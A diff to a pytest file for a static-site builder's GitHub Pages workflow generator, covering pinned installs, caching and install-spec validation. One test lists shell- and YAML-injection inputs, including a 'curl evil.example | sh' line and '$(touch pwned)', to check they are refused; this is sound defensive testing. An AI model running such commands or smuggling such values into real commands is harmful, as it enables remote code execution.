@@ -4,10 +4,19 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import json
+import shlex
+from types import SimpleNamespace
+
 import pytest
 import yaml
 
-from site_builder.workflow import WORKFLOW_YAML, init_workflow
+from site_builder import __version__, workflow as workflow_module
+from site_builder.workflow import WorkflowError, init_workflow, workflow_yaml
+
+# This repository's site is built by site-builder itself, so its workflow installs ".".
+WORKFLOW_YAML = workflow_yaml(".")
+PINNED = f"site-builder=={__version__}"
 
 REPO_WORKFLOW = Path(__file__).resolve().parent.parent / ".github" / "workflows" / "pages.yml"
 
@@ -42,6 +51,7 @@ def test_build_job_builds_with_the_pages_base_url(workflow):
     assert step_uses(build) == [
         "actions/checkout",
         "actions/setup-python",
+        "actions/cache",
         "actions/configure-pages",
         "actions/upload-pages-artifact",
     ]
@@ -67,10 +77,10 @@ def test_deploy_job_publishes_to_the_pages_environment(workflow):
 
 
 def test_init_workflow_writes_the_template(tmp_path):
-    path = init_workflow(tmp_path)
+    path = init_workflow(tmp_path, install=PINNED)
     assert path == tmp_path / ".github" / "workflows" / "pages.yml"
-    assert path.read_text(encoding="utf-8") == WORKFLOW_YAML
-    assert init_workflow(tmp_path) == path  # an identical file is fine
+    assert path.read_text(encoding="utf-8") == workflow_yaml(PINNED)
+    assert init_workflow(tmp_path, install=PINNED) == path  # an identical file is fine
 
 
 def test_init_workflow_keeps_a_different_file_unless_forced(tmp_path):
@@ -79,8 +89,73 @@ def test_init_workflow_keeps_a_different_file_unless_forced(tmp_path):
     path.write_text("name: my own workflow\n")
 
     with pytest.raises(FileExistsError, match="force"):
-        init_workflow(tmp_path)
+        init_workflow(tmp_path, install=PINNED)
     assert path.read_text() == "name: my own workflow\n"
 
-    assert init_workflow(tmp_path, force=True) == path
-    assert path.read_text(encoding="utf-8") == WORKFLOW_YAML
+    assert init_workflow(tmp_path, force=True, install=PINNED) == path
+    assert path.read_text(encoding="utf-8") == workflow_yaml(PINNED)
+
+
+def install_command(text: str) -> list[str]:
+    build = yaml.safe_load(text)["jobs"]["build"]
+    (step,) = [step for step in build["steps"] if step.get("name") == "Install site-builder"]
+    return shlex.split(step["run"])
+
+
+@pytest.mark.parametrize("spec", [
+    PINNED,
+    "site-builder @ git+https://github.com/wikipathways/site_builder@v0.1.0",
+    "git+https://github.com/wikipathways/site_builder@0123456789abcdef0123456789abcdef01234567",
+    "site-builder[test]>=0.1,<0.2",
+])
+def test_a_sites_workflow_installs_site_builder_as_a_package_not_the_site_itself(tmp_path, spec):
+    text = init_workflow(tmp_path, install=spec).read_text(encoding="utf-8")
+    assert install_command(text) == ["python", "-m", "pip", "install", spec]
+    assert "pip install .\n" not in text
+
+
+@pytest.mark.parametrize("spec", [
+    "site-builder; curl evil.example | sh",
+    "site-builder==1 $(touch pwned)",
+    "site-builder\n        run: echo injected",
+    "'site-builder'",
+    "site-builder==1 # comment",
+    "",
+])
+def test_an_install_requirement_that_could_inject_shell_or_yaml_is_refused(tmp_path, spec):
+    with pytest.raises(WorkflowError, match="pip requirement"):
+        init_workflow(tmp_path, install=spec)
+    assert not (tmp_path / ".github").exists()
+
+
+def fake_distribution(direct_url: dict | None):
+    return SimpleNamespace(read_text=lambda name: json.dumps(direct_url) if direct_url and name == "direct_url.json" else None)
+
+
+def test_the_default_install_is_the_installed_git_commit_or_the_pinned_version(monkeypatch):
+    commit = "0123456789abcdef0123456789abcdef01234567"
+    from_git = {"url": "https://github.com/wikipathways/site_builder.git", "vcs_info": {"vcs": "git", "commit_id": commit}}
+    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(from_git))
+    assert workflow_module.default_install() == (f"site-builder @ git+https://github.com/wikipathways/site_builder.git@{commit}", None)
+
+    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(None))  # from PyPI
+    assert workflow_module.default_install() == (PINNED, None)
+
+    local = {"url": "file:///home/me/site_builder", "dir_info": {"editable": True}}
+    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(local))
+    spec, note = workflow_module.default_install()
+    assert spec == PINNED and "file:///home/me/site_builder" in note and "--install" in note
+
+
+def test_the_build_cache_is_kept_between_runs_and_keyed_by_the_site_builder_version(workflow):
+    steps = workflow["jobs"]["build"]["steps"]
+    names = [step.get("name") for step in steps]
+    cache = next(step for step in steps if step.get("uses", "").startswith("actions/cache@"))
+    version = next(step for step in steps if step.get("id") == "site-builder")
+    # the version is read after site-builder is installed, the cache restored before the build
+    assert names.index("Install site-builder") < steps.index(version) < steps.index(cache) < names.index("Build the site")
+    assert "site_builder.__version__" in version["run"] and "$GITHUB_OUTPUT" in version["run"]
+    assert cache["with"]["path"] == ".site-cache"
+    key, restore = cache["with"]["key"], cache["with"]["restore-keys"].strip()
+    assert "${{ steps.site-builder.outputs.version }}" in restore
+    assert key.startswith(restore) and key.endswith("${{ github.sha }}")  # every run saves; the newest is restored
